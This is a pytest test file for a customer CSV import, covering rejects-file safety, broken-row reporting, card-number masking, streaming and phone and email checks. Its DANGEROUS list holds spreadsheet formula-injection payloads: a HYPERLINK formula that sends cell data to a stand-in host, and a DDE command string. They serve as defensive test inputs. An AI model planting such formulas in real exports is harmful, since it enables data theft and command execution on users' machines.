"""The customer import against a determined tester: the rejected-rows file never goes over the
database, the imported file or another file without say-so, is owner-only and spreadsheet-safe;
broken rows (a huge cell, a NUL byte, bad quoting, bytes that are not text) are reported by line
and the rest imported; values are checked for card numbers in their final form; the file is read
as a stream."""

from __future__ import annotations

import csv
import io
import random
import tracemalloc
import unicodedata

import phonenumbers
import pytest
from hypothesis import HealthCheck, event, given, settings
from hypothesis import strategies as st
from sqlalchemy import String, Text, select

from backoffice import cli
from backoffice.domain import Base, Customer, CustomerAddress, CustomerNote
from backoffice.domain.cards import contains_card_number, luhn_valid
from backoffice.domain.emails import validate_email
from backoffice.domain.phones import normalize_phone
from backoffice.errors import UserFacingError, ValidationError
from backoffice.services import customer_import as ci
from backoffice.services import staff as staff_service

PASSWORD = "a long enough password"


def csv_bytes(rows, *, delimiter=",") -> bytes:
    out = io.StringIO()
    csv.writer(out, delimiter=delimiter, lineterminator="\r\n").writerows(rows)
    return out.getvalue().encode("utf-8")


def emails(db) -> set[str]:
    with db.read() as s:
        return set(s.scalars(select(Customer.email)))


def text_values(db):
    """(table.column, value) for every text value of every table."""
    with db.read() as s:
        for table in Base.metadata.sorted_tables:
            columns = [c for c in table.c if isinstance(c.type, (String, Text))]
            if not columns:
                continue
            for row in s.execute(select(*columns)):
                for column, value in zip(columns, row):
                    if isinstance(value, str) and value:
                        yield f"{table.name}.{column.name}", value


def digits_only(value: str) -> str:
    return "".join(str(unicodedata.decimal(ch)) for ch in value if ch.isdecimal())


def rejects_cells(report) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(ci.rejected_rows_csv(report).decode("utf-8-sig")))
            for cell in row]


# --- The command and the rejected-rows file -----------------------------------------------------


@pytest.fixture
def boss(db, monkeypatch):
    staff_service.use_fast_hashing_for_tests()
    staff_service.create_first_owner(db, login="boss", display_name="Boss", password=PASSWORD)
    monkeypatch.setenv("BACKOFFICE_PASSWORD", PASSWORD)
    return "boss"


DANGEROUS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")", "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3",
             "\t=cmd", "+44 20 7946 0958"]


def test_the_rejects_file_is_owner_only_and_its_cells_cannot_run_as_formulas(db, boss, tmp_path, capsys):
    file = tmp_path / "list.csv"
    file.write_bytes(csv_bytes([["Name", "Email", "Notes"], ["Ann Lee", "ann@example.com", ""]]
                               + [[f"Bo {i}", "not an email", cell] for i, cell in enumerate(DANGEROUS)]))
    rejects = tmp_path / "rejects.csv"

    assert cli.main(["import-customers", str(file), "--db", db.url, "--as", boss,
                     "--rejects", str(rejects)]) == 0

    assert rejects.stat().st_mode & 0o777 == 0o600
    rows = list(csv.reader(io.StringIO(rejects.read_text(encoding="utf-8-sig"))))
    notes = [row[3] for row in rows[1:]]
    assert notes == ["'" + cell for cell in DANGEROUS]
    assert f"{len(DANGEROUS)} rows not imported written to" in capsys.readouterr().out


def test_the_rejects_file_never_goes_over_the_database_or_the_imported_file(db, boss, tmp_path, capsys):
    file = tmp_path / "list.csv"
    file.write_bytes(csv_bytes([["Name", "Email"], ["Ann Lee", "ann@example.com"], ["Bo Lee", "bo at x"]]))
    protected = [file] + ([db.sqlite_path] if db.sqlite_path else [])
    for target in protected:
        before = target.read_bytes()
        for extra in ([], ["--replace-rejects"]):
            code = cli.main(["import-customers", str(file), "--db", db.url, "--as", boss,
                             "--rejects", str(target), *extra])
            assert code == 1
            assert "choose another name" in capsys.readouterr().err
            assert target.read_bytes() == before
    # Refused before anything was imported.
    assert emails(db) == set()


def test_an_existing_file_is_replaced_only_when_the_person_says_so(db, boss, tmp_path, capsys):
    file = tmp_path / "list.csv"
    file.write_bytes(csv_bytes([["Name", "Email"], ["Ann Lee", "ann@example.com"], ["Bo Lee", "bo at x"]]))
    mine = tmp_path / "accounts.csv"
    mine.write_text("someone else's work\n")
    base = ["import-customers", str(file), "--db", db.url, "--as", boss, "--rejects", str(mine)]

    assert cli.main(base) == 1
    said = capsys.readouterr().err
    assert "already exists" in said and "--replace-rejects" in said
    assert mine.read_text() == "someone else's work\n" and emails(db) == set()

    assert cli.main([*base, "--replace-rejects"]) == 0
    assert "bo at x" in mine.read_text(encoding="utf-8-sig")
    assert mine.stat().st_mode & 0o777 == 0o600


def test_the_service_refuses_the_protected_files_whatever_replace_says(db, owner, tmp_path):
    data = csv_bytes([["Name", "Email"], ["Bo Lee", "bo at x"]])
    report = ci.preview_import(db, actor=owner, data=data)
    shop = tmp_path / "shop.db"
    shop.write_bytes(b"SQLite format 3\x00")
    with pytest.raises(UserFacingError, match="choose another name"):
        ci.write_rejected_rows(report, shop, replace=True, protect=[shop])
    assert shop.read_bytes() == b"SQLite format 3\x00"


# --- Broken rows ------------------------------------------------------------------------------


def test_broken_rows_are_reported_by_line_and_the_rest_imported(db, tmp_path, capsys, boss):
    huge = "x" * (csv.field_size_limit() + 10)
    data = b"".join([
        b"Name,Email,Notes\r\n",
        b"Ann Lee,ann@example.com,fine\r\n",                       # 2
        b"Bo Lee,bo@example.com,\"" + huge.encode() + b"\"\r\n",    # 3 a cell over the csv limit
        b"Cy Lee,cy@example.com,nul \x00 here\r\n",                 # 4 a NUL byte
        b"Di Lee,di@example.com,caf\xe9 au lait\r\n",               # 5 not UTF-8
        b"Ed Lee,ed@example.com,fine\r\n",                          # 6
        b"Fay Lee,fay@example.com,\"open\"quote\"x\r\n",           # 7 a stray quote: read, not broken
        b"Gus Lee,gus@example.com,\"never closed\r\n",              # 8 a quote never closed
        b"Hal Lee,hal@example.com,x\r\n",                           # 9 swallowed by line 8
    ])
    file = tmp_path / "broken.csv"
    file.write_bytes(data)

    owner = staff_service.sign_in_headless(db, login=boss, password=PASSWORD)
    result = ci.import_customers(db, actor=owner, path=file)

    assert emails(db) == {"ann@example.com", "ed@example.com", "fay@example.com"}
    found = {p.line: p.message for p in result.report.problems}
    assert sorted(found) == [3, 4, 5, 8]
    assert "longer than 131,072 characters" in found[3]
    assert "NUL byte" in found[4]
    assert "bytes that are not UTF-8 text" in found[5]
    assert "never closed" in found[8] and "lines 8 to 9" in found[8]
    rejected = {r.line: r.cells for r in result.report.rejected_rows()}
    assert sorted(rejected) == [3, 4, 5, 8]
    assert "hal@example.com" in rejected[8][0]
    assert result.report.encoding == "UTF-8"

    # The command says the same, with no Python error.
    code = cli.main(["import-customers", str(file), "--db", db.url, "--as", boss, "--dry-run"])
    captured = capsys.readouterr()
    assert code == 1 and "Traceback" not in captured.err + captured.out
    assert "line 3: This row was left out: a cell is longer than 131,072 characters" in captured.out
    assert "line 4: This row was left out: it holds a NUL byte" in captured.out


def test_a_line_longer_than_the_reading_limit_is_left_out_without_being_held(db, owner, monkeypatch):
    monkeypatch.setattr(ci, "LINE_LIMIT", 1000)
    data = b"Name,Email\r\nAnn Lee,ann@example.com\r\n" + b"y" * 5000 + b"\r\nBo Lee,bo@example.com\r\n"
    result = ci.import_customers(db, actor=owner, data=data)
    assert emails(db) == {"ann@example.com", "bo@example.com"}
    [problem] = result.report.problems
    assert problem.line == 3 and "longer than 1,000 characters" in problem.message


def test_a_binary_file_is_refused_with_a_sentence(db, owner):
    with pytest.raises(ValidationError, match="not a text file"):
        ci.preview_import(db, actor=owner, data=b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00")


# --- Tidy first, check last ---------------------------------------------------------------------

# Four spaces or an ideographic space between the groups: collapsed to single spaces when stored.
WIDE = "4111    1111    1111    1111"
IDEOGRAPHIC = "4111\u30001111\u30001111\u30001111"


@pytest.mark.parametrize("spaced", [WIDE, IDEOGRAPHIC, "4111\n1111\n1111\n1111"], ids=["4 spaces", "U+3000", "lines"])
def test_values_are_checked_in_the_form_they_are_stored(db, owner, spaced):
    data = csv_bytes([
        ["First name", "Last name", "Company", "Email", "Address 1", "Address 2", "City", "Notes"],
        [f"Ann {spaced}", "Lee", f"Lee {spaced} Ltd", "ann@example.com", f"1 Main St {spaced}",
         spaced, f"Houston {spaced}", f"paid {spaced}"],
    ])

    result = ci.import_customers(db, actor=owner, data=data)

    assert result.imported == 1
    leaked = [(where, value) for where, value in text_values(db) if "4111111111111111" in digits_only(value)]
    assert leaked == []
    with db.read() as s:
        first_name = s.scalars(select(Customer.first_name)).one()
        address_2 = s.scalars(select(CustomerAddress.address_2)).one()
        note = s.scalars(select(CustomerNote.text)).one()
    assert first_name == "Ann [card number removed, ends 1111]"
    assert address_2 == "[card number removed, ends 1111]"
    assert note == "paid [card number removed, ends 1111]"
    masked = {p.column for p in result.report.problems if p.kind is ci.ProblemKind.MASKED}
    assert masked == {"First name", "Company", "Address 1", "Address 2", "City", "Notes"}


def test_a_card_number_in_the_email_or_phone_rejects_the_row_and_stays_out_of_the_rejects_file(db, owner):
    data = csv_bytes([["Name", "Email", "Phone"],
                      ["Ann Lee", f"{WIDE.replace(' ', '')}@example.com", ""],
                      ["Bo Lee", "bo@example.com", WIDE]])
    result = ci.import_customers(db, actor=owner, data=data)
    assert result.imported == 0 and result.report.rejected == 2
    assert all("4111111111111111" not in digits_only(cell) for cell in rejects_cells(result.report))
    assert all("4111111111111111" not in digits_only(v) for _, v in text_values(db))


@pytest.mark.parametrize(("column", "value"), [("Country", "4111 1111 1111 1111"),
                                              ("Email", "4111111111111111@example"),
                                              ("Phone", "4111    1111    1111    1111")])
def test_a_sentence_about_a_row_never_quotes_its_card_number(db, owner, column, value):
    row = {"Name": "Ann Lee", "Email": "ann@example.com", "Phone": "", "Country": "US", column: value}
    result = ci.import_customers(db, actor=owner, data=csv_bytes([list(row), list(row.values())]))
    assert result.imported == 0
    said = [p.message for p in result.report.problems] + rejects_cells(result.report)
    assert all("4111111111111111" not in digits_only(text) for text in said), said


# --- Streaming ----------------------------------------------------------------------------------


class CountingFile(io.RawIOBase):
    """A file that remembers the size of every read."""

    def __init__(self, fh, reads: list[int]) -> None:
        self.fh, self.reads = fh, reads

    def readable(self):
        return True

    def seekable(self):
        return True

    def read(self, n=-1):
        out = self.fh.read(n)
        self.reads.append(len(out))
        return out

    def readall(self):
        return self.read(-1)

    def readinto(self, b):
        out = self.read(len(b))
        b[:len(out)] = out
        return len(out)

    def seek(self, *args):
        return self.fh.seek(*args)

    def tell(self):
        return self.fh.tell()

    def close(self):
        self.fh.close()
        super().close()


def test_the_file_is_read_in_blocks_never_whole(db, owner, tmp_path, monkeypatch):
    file = tmp_path / "big.csv"
    rows = [["Name", "Email", "Notes"]] + [[f"P {i}", f"p{i}@example.com", "n" * 100] for i in range(20_000)]
    file.write_bytes(csv_bytes(rows))
    size = file.stat().st_size
    reads: list[int] = []
    monkeypatch.setattr(ci, "open", lambda path, mode="r", *a, **k: CountingFile(open(path, mode, *a, **k), reads),
                        raising=False)

    preview = ci.preview_import(db, actor=owner, path=file)

    assert preview.new == 20_000
    assert size > 2_000_000 and sum(reads) >= size and max(reads) <= 1 << 20


FIRST = "Ann Bo Cy Di Ed Fay Gus Hal Ida Jo Kim Lou Mo Ned Oli Pia Quin Rae Sam Tia".split()
LAST = "Lee Ray Ash Fox Gray Hill Kay Lowe May Nash Ode Park Quay Rowe Shaw Tate Vale Ward Yates Zane".split()


def _peaks(db, owner, rows: int, tmp_path) -> tuple[int, int]:
    """Peak traced memory of the preview and of the import of a file of `rows` rows."""
    file = tmp_path / f"{rows}.csv"
    # Names repeat, as they do in a shop's list (the search's word cache is bounded anyway).
    file.write_bytes(csv_bytes([["Name", "Email", "City", "Notes"]] + [
        [f"{FIRST[i % 20]} {LAST[i // 20 % 20]}", f"p{rows}.{i}@example.com", "Houston", "likes tea" * (i % 3)]
        for i in range(rows)]))
    tracemalloc.start()
    try:
        preview = ci.preview_import(db, actor=owner, path=file)
        previewing = tracemalloc.get_traced_memory()[1]
        tracemalloc.reset_peak()
        ci.import_customers(db, actor=owner, path=file, preview=preview)
        return previewing, tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()


def test_memory_does_not_grow_with_the_file(db, owner, tmp_path, monkeypatch):
    # Small chunks, so that both files span many of them.
    monkeypatch.setattr(ci, "CHUNK", 250)
    small = _peaks(db, owner, 1_000, tmp_path)
    large = _peaks(db, owner, 8_000, tmp_path)
    # Eight times the rows: the preview holds nothing per row (bounded caches fill up, a
    # few dozen bytes a row at these sizes); the import adds the set of the new customers'
    # ids, about 100 bytes each. The old import held the whole file: several hundred a row.
    assert large[0] < small[0] + 7_000 * 60, (small, large)
    assert large[1] < small[1] + 7_000 * 150, (small, large)


# --- No card number reaches any table ------------------------------------------------------------

SEPARATORS = [" ", "-", ".", "\u00a0", "  ", "   ", "    ", "\t", "\n", "\r\n", "/", ",", "_", "\u3000", "\u200b",
              "\u00ad", "\uff0d", "\u2013", " - ", "\u2009"]
COLUMNS = ["First name", "Last name", "Company", "Email", "Phone", "Address 1", "Address 2", "City", "State",
           "Zip", "Country", "Notes", "Old id"]
BASE = ["Ann", "Lee", "Lee Ltd", "ann{n}@example.com", "713 555 0101", "1 Main St", "", "Houston", "TX",
        "77002", "US", "", ""]
FULL_WIDTH = str.maketrans("0123456789", "０１２３４５６７８９")


@st.composite
def card_numbers(draw) -> tuple[str, str]:
    """(the digits, the number as typed with separators)."""
    body = "4" + "".join(draw(st.lists(st.sampled_from("0123456789"), min_size=14, max_size=14)))
    digits = body + next(d for d in "0123456789" if luhn_valid(body + d))
    groups = [digits[i:i + 4] for i in range(0, 16, 4)]
    typed = groups[0]
    for group in groups[1:]:
        typed += draw(st.sampled_from(SEPARATORS)) + group
    if draw(st.booleans()):
        typed = typed.translate(FULL_WIDTH)
    return digits, typed


_counter = iter(range(10**9))


@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(card=card_numbers(), column=st.sampled_from(range(len(COLUMNS))),
       before=st.text(alphabet="abc XYZ:#(", max_size=6), after=st.text(alphabet="xyz ABC.)", max_size=6))
def test_a_card_number_in_any_column_reaches_no_table(db, owner, card, column, before, after):
    digits, typed = card
    n = next(_counter)
    row = [v.format(n=n) for v in BASE]
    value = f"{before} {typed} {after}" if before or after else typed
    row[column] = value
    # The detector decides what is a card number; the import must then keep it out
    # whatever it does to the value on the way in.
    if not contains_card_number(" ".join(value.split())):
        event("not recognised by the detector")
        return
    result = ci.import_customers(db, actor=owner, data=csv_bytes([COLUMNS, row]))
    for where, stored in text_values(db):
        assert digits not in digits_only(stored), (where, stored)
    for cell in rejects_cells(result.report):
        assert digits not in digits_only(cell), cell


# --- The quick email check ----------------------------------------------------------------------


@settings(max_examples=120, deadline=None)
@given(st.one_of(st.from_regex(ci._PLAIN_EMAIL, fullmatch=True),
                 st.from_regex(ci._PLAIN_EMAIL_LETTERS, fullmatch=True),
                 st.sampled_from(["a..b@example.com", "a@example.test", "a@localhost", "a@b.c", "x@-a.com",
                                  "a@xn--80ak6aa92e.com", "A.B@EXAMPLE.COM", "a@example.123", "é@example.com",
                                  "a" * 65 + "@example.com", "a@" + "b" * 64 + ".com"])))
def test_the_quick_email_check_agrees_with_the_full_one(address):
    try:
        expected = validate_email(address)
    except ValidationError:
        with pytest.raises(ValidationError):
            ci._checked_email(address)
        return
    assert ci._checked_email(address) == expected


def _email_sample() -> list[str]:
    """Some thousands of addresses: plain ones and each with one change that may make it
    invalid, unusual or reserved."""
    import random

    rng = random.Random(11)
    locals_ = ["anna", "a.b", "anna.maria-weber", "o'brien", "x_y+tag", "A.B", "j%23", "1234", "a" * 64,
               "a" * 65, "ab..c", ".ab", "ab.", "é", "an na", "a\"b", "-a", "a-", "a__b", "Ünal", "maría.garcía",
               "jürgen.5", "søren", "e\u0301lodie", "名前", "ΑΝΝΑ", "a\u00a0b", "\u0661\u0662", "x\u200by", "ǅemal",
               "é" * 40, "ß" * 64]
    domains = ["example.com", "EXAMPLE.COM", "mail.example.co.uk", "a-b.example.org", "x.io", "b.c",
               "example.test", "localhost", "example.local", "example.invalid", "example.123",
               "-a.com", "a-.com", "xn--80ak6aa92e.com", "bücher.de", "a" * 63 + ".com", "a" * 64 + ".com",
               "example..com", "example.com.", "1.2.3.4", "[1.2.3.4]", "example.c0m", "ex_ample.com",
               "example.onion", "example.arpa", "example.museum", ("a" * 60 + ".") * 4 + "com"]
    inserts = list(" .-_+@\"'%!#$&*/=?^`{|}~é\u00a0\t\u0301\u2028ü") + ["..", "@@", "xn--"]
    out = [f"{local}@{domain}" for local in locals_ for domain in domains]
    for _ in range(3000):
        address = f"{rng.choice(locals_)}@{rng.choice(domains)}"
        where = rng.randrange(len(address) + 1)
        action = rng.random()
        if action < 0.4:
            address = address[:where] + rng.choice(inserts) + address[where:]
        elif action < 0.6 and where < len(address):
            address = address[:where] + address[where + 1:]
        elif action < 0.8:
            address = address.upper() if rng.random() < 0.5 else address.swapcase()
        out.append(address)
    return out


def test_the_quick_email_check_gives_the_full_checks_verdict_on_a_broad_sample():
    # Every address the quick check takes is one the full check takes, stored the same;
    # every address it refuses is refused with the full check's sentence.
    quick = 0
    for address in _email_sample():
        try:
            expected = validate_email(address)
        except ValidationError as exc:
            with pytest.raises(ValidationError) as caught:
                ci._checked_email(address)
            assert caught.value.fields == exc.fields, address
            continue
        assert ci._checked_email(address) == expected, address
        quick += ci._quick_email(address) is not None
    assert quick > 300  # the sample reaches the quick path often


# --- Phones remembered by their digits ----------------------------------------------------------

_PUNCTUATION = st.sampled_from([" ", "-", ".", "(", ")", "/", " - ", ") "])


@st.composite
def _phone_writings(draw):
    """A number (a plausible national or international one, or any digits) and two ways of
    writing it with the same digits."""
    digits = draw(st.one_of(
        st.sampled_from(["7135550199", "2079460958", "3012345678", "15112345678", "612345678",
                         "4420794609", "0207946095", "03012345678", "4915112345678", "0044207946095",
                         "17135550199", "001713555019", "911234567", "0612345678", "00442079460958",
                         "004915112345678"]),
        st.text("0123456789", min_size=1, max_size=16)))
    plus = draw(st.booleans()) and not digits.startswith("0")

    def writing():
        text = ""
        for d in digits:
            if draw(st.integers(0, 3)) == 0:
                text += draw(_PUNCTUATION)
            text += d
        return ("+" if plus else "") + " ".join(text.split())
    return writing(), writing()


@settings(max_examples=300, deadline=None)
@given(_phone_writings(), st.sampled_from(["", "US", "GB", "DE", "FR", "IT", "AU"]),
       st.sampled_from(["US", "GB", "DE"]))
def test_a_remembered_phone_gives_the_verdict_of_reading_it_afresh(writings, country, region):
    # The preview remembers each number by its digits; the same number written another way
    # must come out as reading that writing on its own would give.
    first, second = writings
    column = (ci.ColumnMapping(0, "Phone", "phone"),)
    remembering = ci._Checker(("Phone",), column, region)
    remembering._phone(first, country)
    fresh = ci._Checker(("Phone",), column, region)
    assert remembering._phone(second, country) == fresh._phone(second, country)


def test_a_number_for_another_country_is_written_as_the_library_writes_it():
    # The international form is made from the number already read, leading zeros (Italy,
    # Ivory Coast) and extensions included; it must be what reading its E.164 form gives.
    rng = random.Random(4)
    compared = 0
    for _ in range(6000):
        region = rng.choice(["US", "GB", "DE", "IT", "FR", "AU", "NL", "BR", "JP", "IN", "RU", "CI", "VA"])
        digits = "0" * rng.choice([0, 0, 1, 2]) + "".join(rng.choice("0123456789") for _ in range(rng.randint(6, 11)))
        found = normalize_phone(digits + (" ext. 12" if rng.random() < 0.1 else ""), default_region=region)
        if found is None or not found.is_valid:
            continue
        number = phonenumbers.parse(found.e164, None)
        if found.extension:
            number.extension = found.extension
        assert ci._international(found, region) == phonenumbers.format_number(
            number, phonenumbers.PhoneNumberFormat.INTERNATIONAL), digits
        compared += 1
    for typed, region in (("06 6982 1234", "IT"), ("+225 07 07 12 34 56", "US"), ("+39 06 6982 1234 x5", "US")):
        found = normalize_phone(typed, default_region=region)
        number = phonenumbers.parse(found.e164, None)
        number.extension = found.extension
        assert ci._international(found, region) == phonenumbers.format_number(
            number, phonenumbers.PhoneNumberFormat.INTERNATIONAL)
    assert compared > 400
